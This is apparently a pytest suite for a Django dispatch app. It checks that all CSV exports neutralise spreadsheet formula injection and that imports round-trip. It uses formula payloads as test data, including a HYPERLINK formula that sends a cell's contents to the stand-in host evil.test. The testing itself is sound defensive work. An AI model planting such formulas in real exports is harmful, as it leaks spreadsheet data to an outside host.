"""CSV formula injection: every CSV the project serves goes through dispatch112.csvexport, so a text
cell starting with = + - @ (or a tab or carriage return) is written with a leading apostrophe, and
the importers (cameras, relawan) read what was exported back to the same values."""

import csv
import io
import re

import pytest

from dispatch112.csvexport import FORMULA_STARTS, csv_text, read_cell, safe_cell

FORMULAS = ['=HYPERLINK("http://evil.test/?q="&A1,"klik")', "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "'=1+1"]


def _rows(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    text = content.decode("utf-8").removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text)))


NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?$")


def _dangerous(rows):
    """Cells a spreadsheet would run: text starting with a formula character (a plain number such as
    a latitude of -0.5 is a number, not a formula)."""
    return [(n, cell) for n, row in enumerate(rows) for cell in row if cell.startswith(FORMULA_STARTS) and not NUMBER.match(cell)]


@pytest.mark.parametrize("value", FORMULAS + ["Jl. Pahlawan", "'Ayu", "", "日本 🔥", "a,b\n\"c\""])
def test_a_text_cell_reads_back_as_it_was_and_never_starts_a_formula(value):
    (row,) = list(csv.reader(io.StringIO(csv_text(["x"], [[value]]))))[1:]
    assert not row[0].startswith(FORMULA_STARTS)
    assert read_cell(row[0]) == value


def test_numbers_stay_numbers_and_negative_decimals_are_not_quoted():
    from decimal import Decimal

    assert [safe_cell(v) for v in (-1, -0.5, Decimal("-0.502200"))] == [-1, -0.5, Decimal("-0.502200")]
    assert safe_cell("-1") == "'-1"  # a text that looks like a formula stays text


@pytest.fixture
def formula_world(security_world):
    """Formula payloads in every text that an export carries."""
    from cctv.models import Camera
    from incidents.models import Incident
    from shifts.models import ShiftType
    from volunteers.models import Volunteer

    world = security_world
    cameras = list(Camera.objects.order_by("pk")[: len(FORMULAS)])
    for camera, formula in zip(cameras, FORMULAS):
        Camera.objects.filter(pk=camera.pk).update(name=formula, location=formula)
    # As the relawan form stores them: trimmed (a leading tab or CR never reaches a volunteer's name).
    typed = [formula for formula in FORMULAS if formula == formula.strip()]
    volunteers = list(Volunteer.objects.order_by("pk")[: len(typed)])
    for volunteer, formula in zip(volunteers, typed):
        Volunteer.objects.filter(pk=volunteer.pk).update(name=formula, notes=formula)
    Incident.objects.filter(pk=world.incident.pk).update(address=FORMULAS[0], description=FORMULAS[3])
    ShiftType.objects.update(name='=HYPERLINK("http://e.test","x")')  # the column holds 40
    world.users["supervisor"].first_name, world.users["supervisor"].last_name = "@SUM(1+1)", ""
    world.users["supervisor"].save()
    world.objects.update(cameras=cameras, volunteers=volunteers)
    return world


def _exports(world):
    from dispatch112 import clock
    from reports.selectors import TABLES

    today = clock.now().date()
    urls = [
        ("admin", "/api/v1/cameras/export/"),
        ("admin", "/relawan/export.csv"),
        ("supervisor", f"/shifts/calendar/{today:%Y-%m}.csv"),
        ("supervisor", "/reports/export/incidents.csv?period=today"),
    ]
    urls += [("supervisor", f"/reports/export/{key}.csv?period=today") for key in TABLES]
    return urls


def test_no_csv_export_has_a_cell_that_starts_a_formula(formula_world, role_clients):
    seen = {}
    for role, url in _exports(formula_world):
        response = role_clients[role].get(url)
        assert response.status_code == 200, url
        assert response["Content-Type"].startswith("text/csv"), url
        rows = _rows(response)
        assert not _dangerous(rows), (url, _dangerous(rows)[:5])
        seen[url] = {read_cell(cell) for row in rows for cell in row}
    everything = set().union(*seen.values())
    # The payloads are in the files, as text that reads back to what was stored.
    assert {"=HYPERLINK(\"http://evil.test/?q=\"&A1,\"klik\")", "+1+1", "-1+1", "@SUM(1+1)", "'=1+1"} <= everything
    assert {"@SUM(1+1)", '=HYPERLINK("http://e.test","x")'} <= seen[next(url for url in seen if "/shifts/calendar/" in url)]
    assert FORMULAS[0] in seen["/reports/export/incidents.csv?period=today"]


def test_the_camera_admin_export_is_formula_safe(formula_world, role_clients):
    from cctv.models import Camera

    ids = [c.pk for c in formula_world.objects["cameras"]]
    response = role_clients["admin"].post("/admin/cctv/camera/", {"action": "export_selected", "_selected_action": ids})
    assert response["Content-Type"].startswith("text/csv")
    assert not _dangerous(_rows(response))
    assert {read_cell(row[1]) for row in _rows(response)[1:]} == set(Camera.objects.filter(pk__in=ids).values_list("name", flat=True))


def test_exported_cameras_import_back_unchanged(formula_world, role_clients):
    from cctv.models import Camera

    before = {c.code: (c.name, c.location) for c in Camera.objects.all()}
    text = role_clients["admin"].get("/api/v1/cameras/export/").content.decode("utf-8")
    response = role_clients["admin"].post("/api/v1/cameras/import/", text, content_type="text/csv")
    assert response.status_code in (200, 201), response.content[:500]
    assert {c.code: (c.name, c.location) for c in Camera.objects.all()} == before


def test_exported_relawan_import_back_unchanged(formula_world, role_clients):
    from volunteers.models import Volunteer
    from volunteers.services import volunteers_import_csv

    before = {v.pk: (v.name, v.notes, v.phone) for v in Volunteer.objects.all()}
    response = role_clients["admin"].get("/relawan/export.csv")
    text = (b"".join(response.streaming_content) if response.streaming else response.content).decode("utf-8")
    volunteers_import_csv(text=text, by=formula_world.users["admin"])
    assert {v.pk: (v.name, v.notes, v.phone) for v in Volunteer.objects.all()} == before
